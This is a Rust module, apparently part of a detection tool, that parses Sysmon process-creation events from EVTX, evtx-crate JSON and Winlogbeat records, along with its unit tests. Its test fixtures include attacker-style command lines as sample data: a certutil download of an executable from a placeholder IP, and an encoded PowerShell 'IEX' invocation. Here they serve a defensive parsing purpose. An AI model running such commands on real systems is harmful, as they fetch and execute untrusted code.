//! Sysmon Event ID 1 (Process Create) from Windows guests, the first-boot process
//! evidence of AN0692 on Windows images. Three shapes: `.evtx` files themselves (read
//! with the `evtx` crate, whole, when the stream sees the EVTX magic), the JSON that
//! crate renders (`evtx_dump -o jsonl`, Hayabusa, Chainsaw: `Event.System` and
//! `Event.EventData`), and Winlogbeat's ECS documents (`winlog.event_data`,
//! `process.*`).
//!
//! The same field is a number in one shape and a string in another (`ProcessId`,
//! `EventID`, which may also be `{"#text": 1}`); GUIDs come with braces (Windows XML,
//! Winlogbeat) or without (the evtx crate) and are normalized before use. `UtcTime`
//! is `YYYY-MM-DD HH:MM:SS.mmm` in UTC, with no zone written.

use crate::stats::DecodeStats;
use crate::util::{nonblank, rfc3339, truncate, LenientI64, Text};
use crate::{DecodeError, RecordCtx};
use pullwatch_model::{Event, EventKind, Format, Placement, ProcessExec, Ts};
use serde::{Deserialize, Deserializer};
use std::borrow::Cow;
use std::sync::Arc;

/// The first bytes of every `.evtx` file.
pub const EVTX_MAGIC: &[u8] = b"ElfFile\0";

#[derive(Deserialize)]
struct Wire<'a> {
    /// evtx-crate JSON.
    #[serde(rename = "Event", borrow)]
    evtx: Option<EvtxEvent<'a>>,
    /// Winlogbeat.
    #[serde(borrow)]
    winlog: Option<Winlog<'a>>,
    #[serde(rename = "@timestamp", borrow)]
    timestamp: Option<Text<'a>>,
    #[serde(rename = "event", borrow)]
    ecs_event: Option<EcsEvent<'a>>,
    #[serde(borrow)]
    host: Option<EcsHost<'a>>,
    #[serde(borrow)]
    process: Option<EcsProcess<'a>>,
    #[serde(borrow)]
    user: Option<EcsUser<'a>>,
}

#[derive(Deserialize)]
struct EvtxEvent<'a> {
    #[serde(rename = "System", borrow)]
    system: Option<System<'a>>,
    #[serde(rename = "EventData", borrow, default)]
    data: Option<EventData<'a>>,
}

#[derive(Deserialize)]
struct System<'a> {
    #[serde(rename = "Provider", borrow)]
    provider: Option<Provider<'a>>,
    #[serde(rename = "EventID")]
    event_id: Option<EventId>,
    #[serde(rename = "Computer", borrow)]
    computer: Option<Text<'a>>,
    #[serde(rename = "TimeCreated", borrow)]
    time_created: Option<TimeCreated<'a>>,
    #[serde(rename = "Channel", borrow)]
    channel: Option<Text<'a>>,
    #[serde(rename = "EventRecordID")]
    record_id: Option<LenientI64>,
}

#[derive(Deserialize)]
struct Provider<'a> {
    #[serde(rename = "#attributes", borrow)]
    attributes: Option<ProviderAttrs<'a>>,
}

#[derive(Deserialize)]
struct ProviderAttrs<'a> {
    #[serde(rename = "Name", borrow)]
    name: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct TimeCreated<'a> {
    #[serde(rename = "#attributes", borrow)]
    attributes: Option<TimeAttrs<'a>>,
}

#[derive(Deserialize)]
struct TimeAttrs<'a> {
    #[serde(rename = "SystemTime", borrow)]
    system_time: Option<Text<'a>>,
}

/// `1`, `"1"`, or `{"#attributes":{"Qualifiers":…},"#text":1}`.
struct EventId(i64);

impl<'de> Deserialize<'de> for EventId {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        #[serde(untagged)]
        enum Raw {
            Plain(LenientI64),
            Text {
                #[serde(rename = "#text")]
                text: LenientI64,
            },
        }
        Ok(match Raw::deserialize(d)? {
            Raw::Plain(n) | Raw::Text { text: n } => EventId(n.0),
        })
    }
}

/// Sysmon's event data, the same names in evtx JSON and Winlogbeat's `event_data`.
#[derive(Deserialize, Default)]
struct EventData<'a> {
    #[serde(rename = "UtcTime", borrow)]
    utc_time: Option<Lenient<'a>>,
    #[serde(rename = "ProcessGuid", borrow)]
    guid: Option<Lenient<'a>>,
    #[serde(rename = "ProcessId")]
    pid: Option<LenientI64>,
    #[serde(rename = "Image", borrow)]
    image: Option<Lenient<'a>>,
    #[serde(rename = "CommandLine", borrow)]
    command_line: Option<Lenient<'a>>,
    #[serde(rename = "User", borrow)]
    user: Option<Lenient<'a>>,
    #[serde(rename = "ParentProcessId")]
    ppid: Option<LenientI64>,
    #[serde(rename = "ParentImage", borrow)]
    parent_image: Option<Lenient<'a>>,
}

/// A string field some writers render as a number or `null`.
struct Lenient<'a>(Cow<'a, str>);

impl<'de: 'a, 'a> Deserialize<'de> for Lenient<'a> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        #[serde(untagged)]
        enum Raw<'a> {
            #[serde(borrow)]
            S(Cow<'a, str>),
            I(i64),
            U(u64),
            F(f64),
            B(bool),
        }
        Ok(Lenient(match Raw::deserialize(d)? {
            Raw::S(s) => s,
            Raw::I(i) => Cow::Owned(i.to_string()),
            Raw::U(u) => Cow::Owned(u.to_string()),
            Raw::F(f) => Cow::Owned(f.to_string()),
            Raw::B(b) => Cow::Owned(b.to_string()),
        }))
    }
}

fn text<'s>(l: &'s Option<Lenient>) -> Option<&'s str> {
    l.as_ref()
        .map(|l| l.0.trim())
        .filter(|s| !s.is_empty() && *s != "-")
}

#[derive(Deserialize)]
struct Winlog<'a> {
    event_id: Option<LenientI64>,
    #[serde(borrow)]
    provider_name: Option<Text<'a>>,
    #[serde(borrow)]
    computer_name: Option<Text<'a>>,
    #[serde(borrow, default)]
    event_data: Option<EventData<'a>>,
}

#[derive(Deserialize)]
struct EcsEvent<'a> {
    code: Option<LenientI64>,
    #[serde(borrow)]
    provider: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct EcsHost<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct EcsProcess<'a> {
    pid: Option<LenientI64>,
    #[serde(borrow)]
    executable: Option<Text<'a>>,
    #[serde(borrow)]
    command_line: Option<Text<'a>>,
    #[serde(borrow)]
    entity_id: Option<Text<'a>>,
    #[serde(borrow)]
    parent: Option<EcsParent<'a>>,
}

#[derive(Deserialize)]
struct EcsParent<'a> {
    pid: Option<LenientI64>,
    #[serde(borrow)]
    executable: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct EcsUser<'a> {
    #[serde(borrow)]
    domain: Option<Text<'a>>,
    #[serde(borrow)]
    name: Option<Text<'a>>,
}

/// What both shapes reduce to before an event is made.
struct Fields<'a> {
    event_id: i64,
    provider: Option<&'a str>,
    host: Option<&'a str>,
    utc_time: Option<&'a str>,
    fallback_time: Option<&'a str>,
    guid: Option<&'a str>,
    pid: Option<i64>,
    ppid: Option<i64>,
    image: Option<&'a str>,
    command_line: Option<&'a str>,
    parent_image: Option<&'a str>,
    user: Option<String>,
}

pub fn decode_json(
    text_in: &str,
    ctx: &RecordCtx,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    decode_record(text_in, ctx, false, out)
}

/// `record_line`: locate the event by its `EventRecordID` (records of a `.evtx` file).
fn decode_record(
    text_in: &str,
    ctx: &RecordCtx,
    record_line: bool,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    let w: Wire = serde_json::from_str(text_in)?;
    let record_id = w
        .evtx
        .as_ref()
        .and_then(|e| e.system.as_ref())
        .and_then(|s| s.record_id)
        .and_then(|r| u64::try_from(r.0).ok());
    let relocated;
    let ctx = match record_id {
        Some(id) if record_line => {
            relocated = RecordCtx {
                path: ctx.path.clone(),
                line: id,
            };
            &relocated
        }
        _ => ctx,
    };
    let fields = if let Some(ev) = &w.evtx {
        let sys = ev
            .system
            .as_ref()
            .ok_or(DecodeError::Missing("Event.System"))?;
        let data = ev.data.as_ref();
        Fields {
            event_id: sys
                .event_id
                .as_ref()
                .ok_or(DecodeError::Missing("Event.System.EventID"))?
                .0,
            provider: sys
                .provider
                .as_ref()
                .and_then(|p| p.attributes.as_ref())
                .and_then(|a| a.name.as_deref())
                .or(sys.channel.as_deref()),
            host: nonblank(sys.computer.as_deref()),
            utc_time: data.and_then(|d| text(&d.utc_time)),
            fallback_time: sys
                .time_created
                .as_ref()
                .and_then(|t| t.attributes.as_ref())
                .and_then(|a| a.system_time.as_deref()),
            guid: data.and_then(|d| text(&d.guid)),
            pid: data.and_then(|d| d.pid).map(|p| p.0),
            ppid: data.and_then(|d| d.ppid).map(|p| p.0),
            image: data.and_then(|d| text(&d.image)),
            command_line: data.and_then(|d| text(&d.command_line)),
            parent_image: data.and_then(|d| text(&d.parent_image)),
            user: data.and_then(|d| text(&d.user)).map(str::to_string),
        }
    } else if let Some(wl) = &w.winlog {
        // Winlogbeat's ingest pipeline moves most event data into ECS `process.*`;
        // without the pipeline it stays in `event_data`. Read ECS first.
        let data = wl.event_data.as_ref();
        let p = w.process.as_ref();
        let parent = p.and_then(|p| p.parent.as_ref());
        let ecs_user = w.user.as_ref().and_then(|u| {
            let name = nonblank(u.name.as_deref())?;
            Some(match nonblank(u.domain.as_deref()) {
                Some(d) => format!("{d}\\{name}"),
                None => name.to_string(),
            })
        });
        Fields {
            event_id: wl
                .event_id
                .or_else(|| w.ecs_event.as_ref().and_then(|e| e.code))
                .ok_or(DecodeError::Missing("winlog.event_id"))?
                .0,
            provider: wl
                .provider_name
                .as_deref()
                .or_else(|| w.ecs_event.as_ref().and_then(|e| e.provider.as_deref())),
            host: nonblank(wl.computer_name.as_deref())
                .or_else(|| w.host.as_ref().and_then(|h| nonblank(h.name.as_deref()))),
            utc_time: data.and_then(|d| text(&d.utc_time)),
            fallback_time: w.timestamp.as_deref(),
            guid: p
                .and_then(|p| nonblank(p.entity_id.as_deref()))
                .or_else(|| data.and_then(|d| text(&d.guid))),
            pid: p
                .and_then(|p| p.pid)
                .or_else(|| data.and_then(|d| d.pid))
                .map(|v| v.0),
            ppid: parent
                .and_then(|p| p.pid)
                .or_else(|| data.and_then(|d| d.ppid))
                .map(|v| v.0),
            image: p
                .and_then(|p| nonblank(p.executable.as_deref()))
                .or_else(|| data.and_then(|d| text(&d.image))),
            command_line: p
                .and_then(|p| nonblank(p.command_line.as_deref()))
                .or_else(|| data.and_then(|d| text(&d.command_line))),
            parent_image: parent
                .and_then(|p| nonblank(p.executable.as_deref()))
                .or_else(|| data.and_then(|d| text(&d.parent_image))),
            user: data
                .and_then(|d| text(&d.user))
                .map(str::to_string)
                .or(ecs_user),
        }
    } else {
        return Err(DecodeError::Missing("Event.System"));
    };
    emit(&fields, ctx, out)
}

fn emit(f: &Fields, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    if f.event_id != 1 {
        return Ok(());
    }
    // Event ID 1 means something else for other providers (Security 4688 is the
    // process event there).
    if f.provider
        .is_some_and(|p| !p.to_ascii_lowercase().contains("sysmon"))
    {
        return Ok(());
    }
    let time = match (f.utc_time, f.fallback_time) {
        (Some(t), _) => utc_time(t)?,
        (None, Some(t)) => rfc3339(t)?,
        (None, None) => return Err(DecodeError::Missing("EventData.UtcTime")),
    };
    let image = f.image.ok_or(DecodeError::Missing("EventData.Image"))?;
    let mut e = Event::new(
        time,
        ctx.source(Format::Sysmon),
        EventKind::Process(ProcessExec {
            lineage: Default::default(),
            placement: Placement::Host {
                host: f.host.map(str::to_string),
            },
            pid: f.pid.and_then(|p| u32::try_from(p).ok()),
            ppid: f.ppid.and_then(|p| u32::try_from(p).ok()),
            exe: pullwatch_model::name(image),
            cmdline: f.command_line.unwrap_or(image).to_string(),
            parent_exe: f.parent_image.map(pullwatch_model::name),
            user: f.user.clone(),
        }),
    );
    // One process seen through two pipelines (the .evtx and its forwarded copy) has
    // one ProcessGuid per host.
    if let Some(g) = f.guid.map(normalize_guid).filter(|g| !g.is_empty()) {
        let host = f.host.unwrap_or("").to_ascii_lowercase();
        e.dedupe = Some(format!("sysmon:{host}:{g}").into());
    }
    out.push(e);
    Ok(())
}

/// `{365abb72-…}` and `365ABB72-…` are the same GUID.
pub fn normalize_guid(g: &str) -> String {
    g.trim()
        .trim_start_matches('{')
        .trim_end_matches('}')
        .to_ascii_uppercase()
}

/// Sysmon's `UtcTime`: `2019-05-12 17:20:01.964`, UTC without a zone.
fn utc_time(s: &str) -> Result<Ts, DecodeError> {
    let t = s.trim();
    let iso = match t.split_once(' ') {
        Some((d, rest)) => format!("{d}T{rest}Z"),
        None if t.ends_with('Z') => t.to_string(),
        None => format!("{t}Z"),
    };
    Ts::parse_rfc3339(&iso).ok_or_else(|| DecodeError::Time(truncate(s, 64)))
}

/// Decodes a whole `.evtx` file. Each record is rendered to the evtx crate's JSON and
/// decoded like a line of it; a record's "line" is its `EventRecordID`, which is what
/// Event Viewer shows (the record header's number differs in exported files).
pub fn decode_evtx(path: &Arc<str>, bytes: Vec<u8>, out: &mut Vec<Event>, stats: &mut DecodeStats) {
    let parser = match evtx::EvtxParser::from_buffer(bytes) {
        Ok(p) => p,
        Err(e) => {
            stats.skip("sysmon: invalid EVTX file", path, 1, e.to_string());
            return;
        }
    };
    let settings = evtx::ParserSettings::new().num_threads(1);
    let mut parser = parser.with_configuration(settings);
    for rec in parser.records_json() {
        match rec {
            Ok(r) => {
                let ctx = RecordCtx {
                    path: path.clone(),
                    line: r.event_record_id,
                };
                let before = out.len();
                match decode_record(&r.data, &ctx, true, out) {
                    Ok(()) => stats.record(Format::Sysmon, out.len() - before),
                    Err(e) => {
                        out.truncate(before);
                        stats.skip("sysmon: invalid record", path, ctx.line, e.to_string());
                    }
                }
            }
            Err(e) => stats.skip(
                "sysmon: unreadable EVTX record",
                path,
                0,
                truncate(&e.to_string(), 200),
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::test_support::ctx;

    fn decode(s: &str) -> Vec<Event> {
        let mut out = Vec::new();
        decode_json(s, &ctx(), &mut out).unwrap();
        out
    }

    fn proc_of(e: &Event) -> &ProcessExec {
        match &e.kind {
            EventKind::Process(p) => p,
            other => panic!("not a process: {other:?}"),
        }
    }

    /// evtx-crate JSON with the variants other providers and writers produce: an
    /// `EventID` object, braced GUIDs, numbers as strings.
    #[test]
    fn evtx_json_variants() {
        let rec = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":"1"},"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00.5Z"}},"Computer":"WIN-BOOT01","Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"RuleName":"-","UtcTime":"2024-05-01 10:00:00.123","ProcessGuid":"{1a2b3c4d-0000-1111-2222-333344445555}","ProcessId":"4242","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -enc SQBFAFgA","User":"NT AUTHORITY\\SYSTEM","ParentProcessId":1000,"ParentImage":"C:\\Windows\\System32\\cmd.exe","TerminalSessionId":"0"}}}"##;
        let ev = decode(rec);
        assert_eq!(ev.len(), 1);
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2024-05-01T10:00:00.123Z").unwrap()
        );
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("sysmon:win-boot01:1A2B3C4D-0000-1111-2222-333344445555")
        );
        assert_eq!(ev[0].source.format, Format::Sysmon);
        assert_eq!(
            *proc_of(&ev[0]),
            ProcessExec {
                lineage: Default::default(),
                placement: Placement::Host {
                    host: Some("WIN-BOOT01".into())
                },
                pid: Some(4242),
                ppid: Some(1000),
                exe: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into(),
                cmdline: "powershell -enc SQBFAFgA".into(),
                parent_exe: Some("C:\\Windows\\System32\\cmd.exe".into()),
                user: Some("NT AUTHORITY\\SYSTEM".into()),
            }
        );
        // Braced and braceless spellings dedupe alike.
        assert_eq!(
            normalize_guid("{365abb72-55c1-5cd8-0000-0010970d2f00}"),
            "365ABB72-55C1-5CD8-0000-0010970D2F00"
        );
        // Without UtcTime the record's own time is used.
        let no_utc = rec.replace(r#""UtcTime":"2024-05-01 10:00:00.123","#, "");
        assert_eq!(
            decode(&no_utc)[0].time,
            Ts::parse_rfc3339("2024-05-01T10:00:00.5Z").unwrap()
        );
    }

    #[test]
    fn only_sysmon_process_creation_emits() {
        let net = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":3,"Computer":"W"},"EventData":{"UtcTime":"2024-05-01 10:00:00.123","Image":"x.exe"}}}"##;
        assert!(decode(net).is_empty());
        let other = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Kernel-General"}},"EventID":1,"Computer":"W"},"EventData":{"UtcTime":"2024-05-01 10:00:00.123"}}}"##;
        assert!(decode(other).is_empty());
        let mut out = Vec::new();
        assert_eq!(
            decode_json(r#"{"Type":"container","Action":"start"}"#, &ctx(), &mut out),
            Err(DecodeError::Missing("Event.System"))
        );
        let bad_time = r##"{"Event":{"System":{"EventID":1},"EventData":{"UtcTime":"12/05/2019 17:20","Image":"a.exe"}}}"##;
        assert!(matches!(
            decode_json(bad_time, &ctx(), &mut out),
            Err(DecodeError::Time(_))
        ));
        let no_image = r##"{"Event":{"System":{"EventID":1},"EventData":{"UtcTime":"2019-05-12 17:20:01.964"}}}"##;
        assert_eq!(
            decode_json(no_image, &ctx(), &mut out),
            Err(DecodeError::Missing("EventData.Image"))
        );
    }

    /// Winlogbeat without the ingest pipeline: everything in `winlog.event_data`, as
    /// strings.
    #[test]
    fn winlogbeat_raw_event_data() {
        let rec = r#"{"@timestamp":"2024-05-01T10:00:01.000Z","event":{"code":"1","provider":"Microsoft-Windows-Sysmon","kind":"event"},"host":{"name":"win-boot01"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"WIN-BOOT01.corp.example","event_id":"1","provider_name":"Microsoft-Windows-Sysmon","record_id":"77","event_data":{"UtcTime":"2024-05-01 10:00:00.999","ProcessGuid":"{AAAAAAAA-0000-0000-0000-000000000001}","ProcessId":"5150","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://198.51.100.1/a a.exe","User":"CORP\\svc","ParentProcessId":"4000","ParentImage":"C:\\Windows\\System32\\cmd.exe"}}}"#;
        let ev = decode(rec);
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2024-05-01T10:00:00.999Z").unwrap()
        );
        let p = proc_of(&ev[0]);
        assert_eq!(p.placement.host(), Some("WIN-BOOT01.corp.example"));
        assert_eq!((p.pid, p.ppid), (Some(5150), Some(4000)));
        assert_eq!(&*p.exe, "C:\\Windows\\System32\\certutil.exe");
        assert_eq!(p.user.as_deref(), Some("CORP\\svc"));
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("sysmon:win-boot01.corp.example:AAAAAAAA-0000-0000-0000-000000000001")
        );
        // event.code stands in for a missing winlog.event_id.
        let code_only = rec
            .replace(r#""event_id":"1","#, "")
            .replace(r#""code":"1""#, r#""code":"3""#);
        assert!(decode(&code_only).is_empty());
    }

    fn run_file(path: &std::path::Path) -> (Vec<Event>, DecodeStats) {
        crate::test_support::stream_file(path)
    }

    #[test]
    fn shared_samples() {
        let Some(dir) = crate::test_support::samples("sysmon") else {
            return;
        };
        // evtx_dump-style JSON lines.
        let (jsonl, st) = run_file(&dir.join("exec_sysmon_1_ftp.evtx_dump.jsonl"));
        assert_eq!(st.skipped_total(), 0, "{st:?}");
        assert_eq!(st.formats[&Format::Sysmon].records, 4);
        let summary: Vec<(Option<u32>, Option<u32>, &str)> = jsonl
            .iter()
            .map(|e| {
                let p = proc_of(e);
                (p.pid, p.ppid, &*p.exe)
            })
            .collect();
        assert_eq!(
            summary,
            [
                (Some(4092), Some(3192), "C:\\Windows\\System32\\cmd.exe"),
                (Some(956), Some(4092), "C:\\Python27\\python.exe"),
                (Some(2392), Some(3668), "C:\\Windows\\System32\\cmd.exe"),
                (Some(684), Some(2392), "C:\\Windows\\System32\\calc.exe"),
            ]
        );
        let p = proc_of(&jsonl[2]);
        assert_eq!(
            p.cmdline,
            "C:\\Windows\\system32\\cmd.exe /C c:\\Windows\\system32\\calc.exe"
        );
        assert_eq!(
            p.parent_exe.as_deref(),
            Some("C:\\Windows\\System32\\ftp.exe")
        );
        assert_eq!(p.user.as_deref(), Some("IEWIN7\\IEUser"));
        assert_eq!(p.placement.host(), Some("IEWIN7"));
        assert_eq!(
            jsonl[0].time,
            Ts::parse_rfc3339("2019-05-12T17:20:01.964Z").unwrap()
        );
        assert_eq!(
            jsonl[0].dedupe.as_deref(),
            Some("sysmon:iewin7:365ABB72-55C1-5CD8-0000-0010970D2F00")
        );

        // The .evtx itself, read whole: the same four processes, located by record id.
        let (evtx, st) = run_file(&dir.join("exec_sysmon_1_ftp.evtx"));
        assert_eq!(st.skipped_total(), 0, "{st:?}");
        assert_eq!(st.formats[&Format::Sysmon].records, 4);
        let lines: Vec<u64> = evtx.iter().map(|e| e.source.line).collect();
        assert_eq!(lines, [16511, 16512, 16513, 16514]);
        let strip = |v: &[Event]| -> Vec<(Ts, EventKind, Option<Box<str>>)> {
            v.iter()
                .map(|e| (e.time, e.kind.clone(), e.dedupe.clone()))
                .collect()
        };
        assert_eq!(strip(&evtx), strip(&jsonl));

        // Winlogbeat ECS after the ingest pipeline: process.* wins over the message.
        let (ecs, st) = run_file(&dir.join("winlogbeat/sysmon-12-processcreate.golden.json"));
        assert_eq!(st.skipped_total(), 0, "{st:?}");
        assert_eq!(ecs.len(), 1);
        assert_eq!(
            ecs[0].time,
            Ts::parse_rfc3339("2020-10-27T20:00:14.320Z").unwrap()
        );
        assert_eq!(
            *proc_of(&ecs[0]),
            ProcessExec {
                lineage: Default::default(),
                placement: Placement::Host {
                    host: Some("vagrant".into())
                },
                pid: Some(3616),
                ppid: Some(4212),
                exe: "C:\\Windows\\System32\\notepad.exe".into(),
                cmdline: "\"C:\\Windows\\system32\\notepad.exe\"".into(),
                parent_exe: Some("C:\\Windows\\explorer.exe".into()),
                user: Some("VAGRANT\\vagrant".into()),
            }
        );
        assert_eq!(
            ecs[0].dedupe.as_deref(),
            Some("sysmon:vagrant:9F32B55F-7C4E-5F98-5803-000000000500")
        );
    }

    #[test]
    fn a_broken_evtx_file_is_one_located_skip() {
        let mut bytes = EVTX_MAGIC.to_vec();
        bytes.extend_from_slice(&[0u8; 100]);
        let (out, stats) = crate::test_support::stream_bytes("bad.evtx", bytes);
        assert!(out.is_empty());
        assert_eq!(stats.skipped_total(), 1, "{stats:?}");
        assert!(
            stats.skipped.contains_key("sysmon: invalid EVTX file"),
            "{stats:?}"
        );
    }
}
